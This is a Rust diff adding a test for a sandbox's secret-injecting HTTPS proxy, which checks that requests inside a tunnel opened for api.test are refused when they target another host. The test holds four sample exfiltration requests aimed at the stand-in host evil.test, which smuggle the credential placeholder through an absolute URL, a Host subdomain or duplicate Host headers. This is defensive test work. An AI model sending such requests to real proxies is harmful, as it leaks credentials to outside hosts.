@@ -757,6 +757,14 @@ async fn secret_proxy(
 /// sandbox's CA, one request with the placeholder in `Authorization`; all it is
 /// answered inside the TLS.
 async fn fetch_with_placeholder(proxy: SocketAddr, port: u16, ca_pem: &str, key: &str) -> String {
+    let request =
+        format!("GET / HTTP/1.1\r\nHost: api.test:{port}\r\nAuthorization: Bearer {key}\r\n\r\n");
+    send_in_tunnel(proxy, port, ca_pem, &request).await
+}
+
+/// `CONNECT api.test:port`, TLS trusting only the sandbox's CA, then `request`; all it
+/// is answered inside the TLS.
+async fn send_in_tunnel(proxy: SocketAddr, port: u16, ca_pem: &str, request: &str) -> String {
     use rustls::pki_types::pem::PemObject;
     let mut stream = TcpStream::connect(proxy).await.unwrap();
     stream
@@ -790,18 +798,88 @@ async fn fetch_with_placeholder(proxy: SocketAddr, port: u16, ca_pem: &str, key:
         .connect(name, stream)
         .await
         .expect("the sandbox's TLS with the proxy, as api.test");
-    tls.write_all(
-        format!("GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {key}\r\n\r\n")
-            .as_bytes(),
-    )
-    .await
-    .unwrap();
+    tls.write_all(request.as_bytes()).await.unwrap();
     let mut answer = Vec::new();
     tokio::time::timeout(Duration::from_secs(10), tls.read_to_end(&mut answer))
         .await
         .expect("no answer in time")
         .unwrap();
     String::from_utf8_lossy(&answer).into_owned()
+}
+
+/// The attack: `CONNECT api.test` (a secret's host), then inside the TLS a request for
+/// another site, by an absolute URL or by its `Host` (a CDN or gateway at api.test's
+/// address would route it there), with the placeholder in `Authorization` or in the
+/// `Host` itself. Each is answered `421` with the reason, recorded as refused, and
+/// api.test's server gets no request at all; the same tunnel with api.test's own
+/// `Host` and a path still gets the value.
+#[test]
+fn a_request_in_a_secret_s_tunnel_for_another_host_is_refused() {
+    in_netns(
+        "a_request_in_a_secret_s_tunnel_for_another_host_is_refused",
+        || async {
+            let (ca, _, config) = testkit::test_tls(&["api.test"]);
+            let seen = testkit::Seen::default();
+            let port = testkit::https_server(config, seen.clone()).await;
+            let (proxy, addr, key, ca_pem) = secret_proxy(&[port], &[ca]).await;
+            let attacks = [
+                format!(
+                    "GET https://evil.test/C HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {key}\r\n\r\n"
+                ),
+                format!("GET /C HTTP/1.1\r\nHost: {key}.evil.test\r\n\r\n"),
+                format!(
+                    "GET /C HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {key}\r\n\r\n"
+                ),
+                format!(
+                    "GET /C HTTP/1.1\r\nHost: api.test:{port}\r\nHost: evil.test\r\nAuthorization: Bearer {key}\r\n\r\n"
+                ),
+            ];
+            for attack in &attacks {
+                let answer = send_in_tunnel(addr, port, &ca_pem, attack).await;
+                assert!(
+                    answer.starts_with("HTTP/1.1 421 Misdirected Request\r\n"),
+                    "{attack:?}: {answer}"
+                );
+                assert!(
+                    answer.contains("\r\nX-Skillbox-Egress: refused\r\n")
+                        && answer.contains(&format!("has Host: api.test:{port}")),
+                    "{answer}"
+                );
+                assert!(!answer.contains(SECRET), "{answer}");
+            }
+            assert!(
+                seen.lock().unwrap().is_empty(),
+                "api.test's server got {:?}",
+                seen.lock().unwrap()
+            );
+            let answer = fetch_with_placeholder(addr, port, &ca_pem, &key).await;
+            assert!(
+                answer.starts_with("HTTP/1.1 200") && answer.ends_with("ok"),
+                "{answer}"
+            );
+            proxy.stop().await;
+            let connections = proxy.audit().connections();
+            assert_eq!(connections.len(), attacks.len() + 1, "{connections:#?}");
+            for refused in &connections[..attacks.len()] {
+                assert_eq!(
+                    (refused.verdict, refused.bytes_out),
+                    (Verdict::Refused, 0),
+                    "{connections:#?}"
+                );
+                let reason = refused.reason.as_deref().unwrap_or_default();
+                assert!(
+                    reason.contains(&format!("has Host: api.test:{port}")),
+                    "{reason}"
+                );
+                assert!(!reason.contains(SECRET), "{reason}");
+            }
+            assert_eq!(connections[attacks.len()].verdict, Verdict::Allowed);
+            assert_eq!(
+                *seen.lock().unwrap(),
+                vec![("api.test".to_string(), format!("Bearer {SECRET}"))]
+            );
+        },
+    );
 }
 
 /// A secret's host whose certificate nothing the proxy trusts vouches for: the
